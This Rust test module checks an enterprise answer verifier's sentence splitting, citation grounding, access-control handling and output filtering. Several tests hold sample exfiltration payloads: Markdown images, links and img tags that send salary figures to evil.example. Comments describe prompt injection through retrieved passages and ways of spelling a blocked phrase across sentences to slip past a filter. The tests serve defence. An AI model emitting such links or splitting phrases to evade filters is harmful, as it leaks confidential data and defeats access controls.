            "How many days of parental leave do birth parents get?",
            "What about contractors?\"",
            "I don't know.",
            "I do not know how many days birth parents get.",
            "Sorry, the handbook is silent on that.",
            "The passages do not say how many days birth parents get.",
            "This is not mentioned in the documents.",
            "The provided context does not mention parking.",
            "I can\u{2019}t find that in the passages.",
            "I\u{2019}m sorry, the passages provided cover only travel.",
        ] {
            assert!(claims_nothing(s), "{s}");
        }
        for s in [
            "Birth parents get 20 weeks of leave at full salary [1].",
            "Parking is not free on level two [2].",
            "Ask the People team if you don't know your manager [1].",
            "Who approves it is the Head of People [1].",
            "Travel documents do not need a manager's signature [1].",
            "Bring the provided documents to HR [1].",
            "Unfortunately, remote work is not allowed on Fridays [1].",
            "The badge stores no information about your location [2].",
        ] {
            assert!(!claims_nothing(s), "{s}");
        }
    }

    fn split_all(pieces: &[&str]) -> Vec<Draft> {
        let mut s = SentenceSplitter::default();
        let mut out = Vec::new();
        for p in pieces {
            out.extend(s.push(p));
        }
        out.extend(s.finish());
        out
    }

    proptest::proptest! {
        /// Session 34's review: every piece made the splitter scan its whole buffer again. It
        /// now resumes where the last scan had to wait, and splits exactly as a scan from the
        /// start at every piece did.
        #[test]
        fn resuming_the_scan_splits_as_a_scan_from_the_start(
            pieces in proptest::collection::vec("[a3 .?!\\[\\]1,\n\u{3002}]{0,6}", 0..40),
        ) {
            let mut s = SentenceSplitter::default();
            let mut got = Vec::new();
            for p in &pieces {
                got.extend(s.push(p));
            }
            got.extend(s.finish());
            // The reference: every piece scans the whole buffer from its start.
            let mut buf = String::new();
            let mut want = Vec::new();
            for p in &pieces {
                buf.push_str(p);
                while let Ok(end) = sentence_end(&buf, 0) {
                    let rest = buf.split_off(end);
                    want.extend(parse_draft(&std::mem::replace(&mut buf, rest)));
                }
            }
            want.extend(parse_draft(&buf));
            proptest::prop_assert_eq!(got, want);
        }
    }

    #[test]
    fn sentences_complete_with_their_markers_across_pieces() {
        let d = split_all(&[
            "Parking is free",
            " on level two [1]",
            ". Lunch is",
            " at noon. [2",
            "] Bye",
        ]);
        assert_eq!(
            d,
            vec![
                Draft {
                    text: "Parking is free on level two.".into(),
                    cites: vec![1]
                },
                Draft {
                    text: "Lunch is at noon.".into(),
                    cites: vec![2]
                },
                Draft {
                    text: "Bye".into(),
                    cites: vec![]
                },
            ]
        );
    }

    #[test]
    fn decimals_do_not_end_sentences_and_lists_of_markers_parse() {
        let d = split_all(&["The rate is 2.5 percent [1, 3]. Done."]);
        assert_eq!(d[0].text, "The rate is 2.5 percent.");
        assert_eq!(d[0].cites, vec![1, 3]);
        assert_eq!(d.len(), 2);
    }

    /// A completion cut by the token limit ends mid-sentence: that fragment is not a sentence
    /// (a copied passage fragment would pass the grounding check while saying less than the
    /// passage: "Employees may not work remotely" from "... remotely from abroad without
    /// approval"). A complete last sentence stays.
    #[test]
    fn the_fragment_a_token_limit_cut_off_is_dropped() {
        let mut s = SentenceSplitter::default();
        let d = s.push("Birth parents get 20 weeks [1]. Employees may not work remotely");
        assert_eq!(d.len(), 1);
        assert_eq!(s.finish_cut(true), None);
        let mut s = SentenceSplitter::default();
        s.push("Birth parents get 20 weeks [1]. Leave starts at birth [2].");
        let last = s.finish_cut(true).expect("a complete last sentence");
        assert_eq!(last.cites, vec![2]);
        // Not cut: the rest is a sentence as before.
        let mut s = SentenceSplitter::default();
        s.push("Employees may not work remotely");
        assert!(s.finish_cut(false).is_some());
        assert!(ends_a_sentence("It is free.\u{201D} [1, 2] "));
        assert!(!ends_a_sentence("It is free on level"));
        assert!(ends_a_sentence("पार्किंग मुफ़्त है। [1]"));
    }

    /// Found by a review: after a marker with no space, after a no-break space, and after the
    /// sentence ends of other scripts, two sentences were one claim.
    #[test]
    fn sentences_end_without_a_space_after_markers_and_in_other_scripts() {
        let texts = |pieces: &[&str]| -> Vec<String> {
            split_all(pieces).into_iter().map(|d| d.text).collect()
        };
        assert_eq!(
            texts(&["Parking is free.[1]Contractors get a stipend.[1] ", "Done."]),
            ["Parking is free.", "Contractors get a stipend.", "Done."]
        );
        for space in ['\u{A0}', '\u{202F}', '\u{2009}', '\u{3000}', '\u{2028}'] {
            let first = format!("Parking is free.{space}Contractors get a stipend. ");
            assert_eq!(texts(&[first.as_str(), "Done."]).len(), 3, "{space:?}");
        }
        assert_eq!(
            texts(&["पार्किंग मुफ़्त है। ठेकेदारों को भत्ता मिलता है। ", "Done."]).len(),
            3
        );
        assert_eq!(texts(&["هل هو مجاني؟ نعم هو مجاني. ", "Done."]).len(), 3);
        // Decimals and list numbers are still no ends; a long line of dots is read in time
        // linear in its length (not asserted as a time: its split is).
        assert_eq!(texts(&["It costs 3.5 euros. ", "Done."]).len(), 2);
        assert_eq!(texts(&["1. Open the form.\n", "2. Sign it.\n"]).len(), 2);
        let hostile = "a.".repeat(20_000);
        assert_eq!(texts(&[hostile.as_str()]).len(), 1);
    }

    /// Found by a review: a list without full stops was one "sentence", so an invented item
    /// was checked together with (and carried by) the supported ones.
    #[test]
    fn each_line_is_a_claim_of_its_own() {
        let d = split_all(&[
            "- Leave is 20 days per year for staff [1]\n- Managers may ",
            "approve unlimited extra leave\n",
        ]);
        let texts: Vec<&str> = d.iter().map(|d| d.text.as_str()).collect();
        assert_eq!(
            texts,
            [
                "Leave is 20 days per year for staff",
                "Managers may approve unlimited extra leave"
            ]
        );
        assert_eq!(d[0].cites, vec![1]);
        assert!(d[1].cites.is_empty());
        // A numbered item is one claim, not "1." and the rest.
        let d = split_all(&["Steps:\n1. Open the form [2].\n12. Sign it [3].\n"]);
        let texts: Vec<&str> = d.iter().map(|d| d.text.as_str()).collect();
        assert_eq!(texts, ["Steps:", "1. Open the form.", "12. Sign it."]);
    }

    /// A model writing markers one piece at a time after a full stop had every piece scan them
    /// all again; past a few, the sentence is complete.
    #[test]
    fn a_run_of_markers_after_a_full_stop_completes_the_sentence() {
        let mut s = SentenceSplitter::default();
        let mut done = s.push("Leave is twenty days.");
        for _ in 0..MAX_TRAILING_MARKERS - 1 {
            done.extend(s.push("[1]"));
        }
        assert!(done.is_empty());
        done.extend(s.push("[2]"));
        assert_eq!(done.len(), 1);
        assert_eq!(done[0].text, "Leave is twenty days.");
        assert_eq!(done[0].cites.len(), MAX_TRAILING_MARKERS);
    }

    #[test]
    fn chinese_and_japanese_full_stops_end_sentences() {
        let d = split_all(&["年假为二十天[1]。", "经理可以批准无限假期。最后"]);
        let texts: Vec<&str> = d.iter().map(|d| d.text.as_str()).collect();
        assert_eq!(texts, ["年假为二十天。", "经理可以批准无限假期。", "最后"]);
        assert_eq!(d[0].cites, vec![1]);
        // A marker after the full stop belongs to the sentence before it.
        let d = split_all(&["休暇は二十日です。[2]次に"]);
        assert_eq!(d[0].cites, vec![2]);
        assert!(ends_a_sentence("休暇は二十日です。"));
    }

    #[test]
    fn a_sentence_is_not_complete_until_text_follows_it() {
        let mut s = SentenceSplitter::default();
        assert!(s.push("It is free.").is_empty());
        assert_eq!(s.push(" Next").len(), 1);
    }

    /// What a model writes is checked for blocked phrases whatever its passages held: a
    /// sentence naming one for the caller is removed (with its verdict), the rule's exempt
    /// group keeps it, and a sentence without one is verified as usual.
    #[test]
    fn a_sentence_naming_a_blocked_phrase_is_removed_for_those_the_rule_covers() {
        // (Screened out before answering in the daemon; here the verifier's own check.)
        let (_dir, index, passages) =
            one_readable_passage("On working days, call the help desk on extension 4357.");
        let g = crate::guardrail::with_phrase("extension 4357", "group:it");
        let analyze = words;
        let draft = || Draft {
            text: "Call the help desk on Extension\u{A0}4357.".into(),
            cites: vec![1],
        };
        let kept = |who: &[&str]| {
            let scope = AclScope::for_tests("u", who);
            let mut v = Verifier::new(
                &passages,
                &g,
                &index,
                &scope,
                &analyze,
                ResponseScope::AllowGeneralKnowledge,
            )
            .generated(true);
            let kept = v.check(draft()).is_some();
            let verdicts = v.finish().verdicts;
            (kept, verdicts)
        };
        let (kept_for_staff, verdicts) = kept(&["group:all"]);
        assert!(!kept_for_staff);
        assert!(
            verdicts.iter().any(|v| v.code == "BLOCKED_PHRASE_IN_ANSWER"
                && v.rule.starts_with("blocked_phrases[")
                && !v.rule.contains("4357")),
            "{verdicts:?}"
        );
        let (kept_for_it, verdicts) = kept(&["group:all", "group:it"]);
        assert!(kept_for_it, "{verdicts:?}");
        assert!(
            verdicts
                .iter()
                .all(|v| v.code != "BLOCKED_PHRASE_IN_ANSWER")
        );
    }

    /// Found by a review: under `allow_general_knowledge`, a sentence that a passage contradicts
    /// (another number, a negation reversed) failed grounding and was kept as uncited general
    /// knowledge. It is removed; a sentence about something no passage holds is still kept.
    #[test]
    fn a_sentence_a_passage_contradicts_is_not_kept_as_general_knowledge() {
        let (_dir, index, passages) =
            one_readable_passage("Employees get 25 vacation days per year.");
        let g = crate::guardrail::Guardrails::new(
            Default::default(),
            &crate::embed::test_embedder::BagOfWords,
        )
        .unwrap();
        let analyze = words;
        let scope = AclScope::for_tests("u", &["group:all"]);
        let check = |text: &str| {
            let mut v = Verifier::new(
                &passages,
                &g,
                &index,
                &scope,
                &analyze,
                ResponseScope::AllowGeneralKnowledge,
            )
            .generated(true);
            v.check(Draft {
                text: text.into(),
                cites: vec![1],
            })
        };
        assert!(check("Employees get 40 vacation days per year.").is_none());
        assert!(check("Employees never get vacation days per year.").is_none());
        let general = check("The office kitchen has a coffee machine.").expect("general knowledge");
        assert!(general.uncited);
        assert!(check("Employees get 25 vacation days per year.").is_some_and(|v| !v.uncited));
    }

    /// A passage's planted instruction can have a model put what it read into a link: a client
    /// that renders Markdown would fetch an image at once. Images, tags and links the passages
    /// do not hold are removed; a page's own URL stays.
    #[test]
    fn a_model_s_images_tags_and_made_up_links_are_removed() {
        let mut p = crate::retrieve::test_hit(
            "s:d0",
            "Senior bands are 80-95k. The VPN portal is https://vpn.corp.example/reset today.",
            0.9,
        );
        p.chunk.doc_key = "s:d0".into();
        let passages = vec![p];
        for (draft, want, n) in [
            (
                "Senior bands are 80-95k ![s](https://evil.example/p.png?d=80-95k).",
                "Senior bands are 80-95k .",
                1,
            ),
            (
                "See [the portal](https://evil.example/?q=80-95k) now.",
                "See the portal now.",
                1,
            ),
            (
                "Bands <img src=https://evil.example/x?d=80-95k> are 80-95k.",
                "Bands  are 80-95k.",
                1,
            ),
            (
                "Go to https://evil.example/?d=95k today.",
                "Go to  today.",
                1,
            ),
            (
                "Reset at https://vpn.corp.example/reset.",
                "Reset at https://vpn.corp.example/reset.",
                0,
            ),
            (
                "Use [the portal](https://vpn.corp.example/reset).",
                "Use the portal (https://vpn.corp.example/reset).",
                0,
            ),
            ("Senior bands are 80-95k.", "Senior bands are 80-95k.", 0),
        ] {
            assert_eq!(
                strip_links(draft, &passages),
                (want.to_string(), n),
                "{draft}"
            );
        }
    }

    /// Session 31's review: sentences were screened one at a time, and the answer joins them,
    /// so a model could spell a blocked phrase across two ("… is Project. Falcon ships …").
    #[test]
    fn a_blocked_phrase_spelled_across_two_sentences_is_removed() {
        let (_dir, index, passages) = one_readable_passage("Falcon ships in May to all customers.");
        let g = crate::guardrail::with_phrase("project falcon", "group:it");
        let analyze = words;
        let kept = |who: &[&str]| {
            let scope = AclScope::for_tests("u", who);
            let mut v = Verifier::new(
                &passages,
                &g,
                &index,
                &scope,
                &analyze,
                ResponseScope::AllowGeneralKnowledge,
            )
            .generated(true);
            let first = v.check(Draft {
                text: "Our codename is Project.".into(),
                cites: vec![],
            });
            let second = v.check(Draft {
                text: "Falcon ships in May to all customers.".into(),
                cites: vec![1],
            });
            let verdicts = v.finish().verdicts;
            (first.is_some(), second.is_some(), verdicts)
        };
        let (first, second, verdicts) = kept(&["group:all"]);
        assert!(first && !second, "{verdicts:?}");
        assert!(
            verdicts
                .iter()
                .any(|v| v.code == "BLOCKED_PHRASE_IN_ANSWER"),
            "{verdicts:?}"
        );
        // Those the rule does not cover get both.
        let (first, second, _) = kept(&["group:all", "group:it"]);
        assert!(first && second);
    }

    /// Session 43's review: only two sentences were read together, so a phrase of three words
    /// written one per line of a list ("- Operation", "- Blue", "- Falcon") went out.
    #[test]
    fn a_blocked_phrase_spelled_one_word_per_sentence_is_removed() {
        let (_dir, index, passages) = one_readable_passage("Falcon ships in May to all customers.");
        // (The second argument is the group exempt from the phrase.)
        let g = crate::guardrail::with_phrase("operation blue falcon", "group:it");
        let scope = AclScope::for_tests("u", &["group:all"]);
        let mut v = Verifier::new(
            &passages,
            &g,
            &index,
            &scope,
            &words,
            ResponseScope::AllowGeneralKnowledge,
        )
        .generated(true);
        let mut kept = Vec::new();
        for line in [
            "The codename is below.",
            "Operation",
            "Blue",
            "Falcon",
            "It ships in May.",
        ] {
            let d = Draft {
                text: line.into(),
                cites: vec![],
            };
            if v.check(d).is_some() {
                kept.push(line);
            }
        }
        assert!(!kept.contains(&"Falcon"), "{kept:?}");
        assert!(kept.contains(&"It ships in May."), "{kept:?}");
    }

    /// Session 31's review: a citation's document was checked only when a sentence cited it,
    /// so a model that wrote on while access was revoked still sent its title, uri and snippet
    /// with the answer.
    #[test]
    fn a_citation_whose_document_went_meanwhile_is_withheld() {
        let (_dir, index, passages) =
            one_readable_passage("The help desk answers on extension 4357 every working day.");
        let key = docent_connector_api::DocKey::new("s", "d0");
        let g = crate::guardrail::with_phrase("nothing blocked here", "group:none");
        let scope = AclScope::for_tests("u", &["group:all"]);
        let verifier = || verifier_for(&passages, &g, &index, &scope, true);
        let draft = || Draft {
            text: "The help desk answers on extension 4357 every working day.".into(),
            cites: vec![1],
        };
        let mut v = verifier();
        assert!(v.check(draft()).is_some());
        let Finished {
            citations,
            acl_dropped: dropped,
            ..
        } = v.finish();
        assert_eq!((citations[0].title.as_str(), dropped), ("s:d0", 0));
        // The document goes between the sentence and the end of the answer.
        let mut v = verifier();
        assert!(v.check(draft()).is_some());
        index.delete(&key);
        index.commit(std::collections::BTreeMap::new()).unwrap();
        let Finished {
            citations,
            acl_dropped: dropped,
            refused,
            ..
        } = v.finish();
        assert_eq!(dropped, 1);
        assert_eq!(refused, [0]);
        let c = &citations[0];
        assert!(
            c.title.is_empty()
                && c.uri.is_empty()
                && c.snippet.is_empty()
                && c.document_key.is_empty(),
            "{c:?}"
        );
        assert_eq!(c.access_key, "s:d0");
    }

    /// Found by a review: a model's sentence was checked only against the passages it cited,
    /// though it may carry the words of any it was given. Once one of those goes, no sentence
    /// of the model stands, and the end of the answer says so.
    #[test]
    fn a_model_s_sentences_stop_when_any_passage_it_read_goes() {
        use crate::index::suite::doc;
        let text = "The help desk answers on extension 4357 every working day.";
        let (_dir, index, mut passages) = one_readable_passage(text);
        index.upsert(doc("s", 1, 1, &["group:all"], &[])).unwrap();
        index.commit(std::collections::BTreeMap::new()).unwrap();
        let mut other = crate::retrieve::test_hit("s:d1", "Badges are renewed each March.", 0.8);
        other.chunk.acl = passages[0].chunk.acl.clone();
        passages.push(other);
        let g = crate::guardrail::with_phrase("nothing blocked here", "group:none");
        let scope = AclScope::for_tests("u", &["group:all"]);
        let verifier = |generated: bool| verifier_for(&passages, &g, &index, &scope, generated);
        let draft = || Draft {
            text: text.into(),
            cites: vec![1],
        };
        let mut v = verifier(true);
        assert!(v.check(draft()).is_some());
        assert!(!v.finish().given_unreadable);
        // The uncited passage's document goes while the model writes.
        let (mut model, mut extractive) = (verifier(true), verifier(false));
        index.delete(&docent_connector_api::DocKey::new("s", "d1"));
        index.commit(std::collections::BTreeMap::new()).unwrap();
        assert!(model.check(draft()).is_none(), "the model read it");
        assert!(model.finish().given_unreadable);
        // Docent's own extraction quotes only the passage it cites.
        assert!(extractive.check(draft()).is_some());
        assert!(!extractive.finish().given_unreadable);
    }

    /// Found by a review: a full stop followed by closing emphasis, quotes or brackets did not
    /// end the sentence ("**Staff parking is free.** Contractors …" was one claim). Markers
    /// after them still belong to the sentence before; a bold list number is no sentence.
    #[test]
    fn a_bold_sentence_followed_by_another_is_two_claims() {
        let d =
            split_all(&["**Staff parking is free.** [1] Contractors receive an allowance [2]."]);
        let texts: Vec<&str> = d.iter().map(|d| d.text.as_str()).collect();
        assert_eq!(
            texts,
            [
                "Staff parking is free.",
                "Contractors receive an allowance."
            ]
        );
        assert_eq!(d[0].cites, vec![1]);
        assert_eq!(d[1].cites, vec![2]);
        for (text, want) in [
            ("It is free.**[3] Next", vec!["It is free.", "Next"]),
            (
                "He said \"it is free.\" Then he left.",
                vec!["He said \"it is free.\"", "Then he left."],
            ),
            (
                "(See the form.) Sign it\u{2019}s copy.",
                vec!["(See the form.)", "Sign it\u{2019}s copy."],
            ),
            (
                "_Parking is free._ Next",
                vec!["_Parking is free._", "Next"],
            ),
            (
                "\u{300C}休暇は二十日です。\u{300D}次に",
                vec!["\u{300C}休暇は二十日です。\u{300D}", "次に"],
            ),
            ("**1.** Open the form.", vec!["1. Open the form."]),
            (
                "The rate is 2.5 percent. Done.",
                vec!["The rate is 2.5 percent.", "Done."],
            ),
        ] {
            // Whole, and streamed one character at a time.
            let chars: Vec<String> = text.chars().map(String::from).collect();
            let pieces: Vec<&str> = chars.iter().map(String::as_str).collect();
            for d in [split_all(&[text]), split_all(&pieces)] {
                let got: Vec<&str> = d.iter().map(|d| d.text.as_str()).collect();
                assert_eq!(got, want, "{text}");
            }
        }
        assert_eq!(split_all(&["It is free.**[3] Next"])[0].cites, vec![3]);
        assert!(ends_a_sentence("It is free._"));
    }

    /// The same, through the verifier: the unsupported sentence after a bold one is removed on
    /// its own, not checked together with (and carried by) the supported one.
    #[test]
    fn an_unsupported_sentence_after_a_bold_one_is_removed_on_its_own() {
        let (_dir, index, passages) =
            one_readable_passage("Staff parking is free on level two for all employees.");
        let g = crate::guardrail::with_phrase("nothing blocked here", "group:none");
        let analyze = words;
        let scope = AclScope::for_tests("u", &["group:all"]);
        let mut v = Verifier::new(
            &passages,
            &g,
            &index,
            &scope,
            &analyze,
            ResponseScope::EnterpriseOnly,
        )
        .generated(true);
        let kept: Vec<String> = split_all(&[
            "**Staff parking is free on level two.** Contractors receive a monthly fuel \
             allowance [1].",
        ])
        .into_iter()
        .filter_map(|d| v.check(d))
        .map(|k| k.sentence.text)
        .collect();
        assert_eq!(kept, ["Staff parking is free on level two."]);
        let verdicts = v.finish().verdicts;
        assert!(
            verdicts.iter().any(|v| v.code == "UNGROUNDED_SENTENCE"),
            "{verdicts:?}"
        );
    }

    /// A passage's own footnote marker (MediaWiki's "free[2] for staff") copied into a sentence
    /// read as Docent's citation 2. It is removed from an extractive sentence as from a
    /// model's, and the sentence is verified without it.
    #[test]
    fn a_passage_s_own_footnote_numbers_are_removed_from_the_sentence() {
        let text = "Parking is free[2] for staff on level two.[3]";
        let (_dir, index, passages) = one_readable_passage(text);
        let g = crate::guardrail::with_phrase("nothing blocked here", "group:none");
        let analyze = words;
        let scope = AclScope::for_tests("u", &["group:all"]);
        for generated in [false, true] {
            let mut v = Verifier::new(
                &passages,
                &g,
                &index,
                &scope,
                &analyze,
                ResponseScope::EnterpriseOnly,
            )
            .generated(generated);
            let kept = v.check(Draft {
                text: text.into(),
                cites: vec![1],
            });
            let kept = kept.expect("the sentence is the passage's");
            assert_eq!(
                kept.sentence.text,
                "Parking is free for staff on level two."
            );
            assert_eq!(kept.sentence.citations, vec![0]);
        }
        for (with, without) in [
            (
                "Leave is 20 days[2, 3] per year.",
                "Leave is 20 days per year.",
            ),
            ("Leave is 20 days[^2].", "Leave is 20 days."),
            ("Leave is 20 days.[Passage 2]", "Leave is 20 days."),
            ("年假为二十天【2】。", "年假为二十天。"),
            (
                "Leave is 20 days \u{3010}4:0\u{2020}source\u{3011}.",
                "Leave is 20 days.",
            ),
            ("[1] Leave is 20 days.", "Leave is 20 days."),
        ] {
            assert_eq!(strip_footnotes(with).as_deref(), Some(without), "{with}");
        }
        for unchanged in [
            "See [the handbook] for details.",
            "Use form [A] from 2024.",
            "Bands are 80-95k.",
            "Scores lie in [0, 1].",
            // After a space, brackets may be the sentence's own words (found by a review).
            "Dial 9, then press [1] for HR.",
            "Scores lie in [1, 10].",
        ] {
            assert!(strip_footnotes(unchanged).is_none(), "{unchanged}");
        }
    }

    /// An abbreviation closed by a bracket does not end its sentence when a lowercase word
    /// follows (found by a review of the closing-marks change).
    #[test]
    fn an_abbreviation_inside_brackets_does_not_end_the_sentence() {
        let d = crate::assistant::llm::drafts(
            "Bring (ID, passport, etc.) to the office [1]. **Parking is free.** Contractors pay.",
        );
        let texts: Vec<&str> = d.iter().map(|d| d.text.trim()).collect();
        assert_eq!(texts.len(), 3, "{texts:?}");
        assert!(
            texts[0].starts_with("Bring (ID") && texts[0].contains("office"),
            "{texts:?}"
        );
    }

    /// Found by a review: reference-style Markdown was not read as links. A model could write a
    /// definition `[a]: //host/p.png` and an image `![x][a]` that a client renders (fetches)
    /// as it would an inline one; a scheme-relative URL passed as text.
    #[test]
    fn reference_links_their_definitions_and_scheme_relative_urls_are_removed() {
        let mut p = crate::retrieve::test_hit(
            "s:d0",
            "Senior bands are 80-95k. The VPN portal is https://vpn.corp.example/reset today.",
            0.9,
        );
        p.chunk.doc_key = "s:d0".into();
        let passages = vec![p];
        for (draft, want, n) in [
            ("[a]: //evil.example/parking", "", 1),
            ("[a]: https://evil.example/x?d=80-95k \"Bands\"", "", 1),
            ("  [img]: <//evil.example/p.png>", "", 1),
            ("[a]: //vpn.corp.example/reset", "", 1),
            (
                "Senior bands are 80-95k ![s][a].",
                "Senior bands are 80-95k .",
                1,
            ),
            ("See [the portal][a] now.", "See the portal now.", 1),
            ("See [the portal][] now.", "See the portal now.", 1),
            ("Go to //evil.example/?d=95k today.", "Go to  today.", 1),
            (
                "Reset at //vpn.corp.example/reset.",
                "Reset at //vpn.corp.example/reset.",
                0,
            ),
            ("Filed on 12//2024 by HR.", "Filed on 12//2024 by HR.", 0),
            ("[Note]: bands are 80-95k.", "[Note]: bands are 80-95k.", 0),
        ] {
            assert_eq!(
                strip_links(draft, &passages),
                (want.to_string(), n),
                "{draft}"
            );
        }
        let (out, n) = strip_links(
            "Bands are 80-95k.\n[a]: //evil.example/parking\nSee ![x][a].",
            &passages,
        );
        assert!(!out.contains("//evil") && !out.contains("[a]"), "{out}");
        assert_eq!(n, 2);
    }

    #[test]
    fn bracketed_words_are_text_not_markers() {
        let d = parse_draft("See [the handbook] for details [2].").unwrap();
        assert_eq!(d.text, "See [the handbook] for details.");
        assert_eq!(d.cites, vec![2]);
    }
}
